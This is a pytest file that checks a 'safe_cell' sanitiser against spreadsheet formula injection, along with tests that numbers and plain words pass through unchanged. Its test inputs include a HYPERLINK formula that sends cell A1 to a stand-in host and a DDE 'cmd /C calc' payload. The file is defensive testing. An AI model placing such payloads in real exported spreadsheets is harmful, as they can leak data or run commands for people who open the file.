"""The combined table: what a spreadsheet would take for a formula is harmless, and everything else is what it was."""

from typing import Any

import pytest

from evidence_app.services.tables import safe_cell


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "@x", " =1+1", "\t=1", "\r=1", "-2+3"]
)
def test_a_cell_that_begins_like_a_formula_has_an_apostrophe_in_front(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"), ("-5", "-5"), ("+1", "+1"), ("-1,234.50", "-1,234.50"), ("-3.5e-2", "-3.5e-2"), ("-12%", "-12%"),
        (None, ""), (True, "true"), ([1, "ü"], '[1, "ü"]'), ({"a": 1}, '{"a": 1}'), ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_numbers_stay_numbers_and_words_words(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell
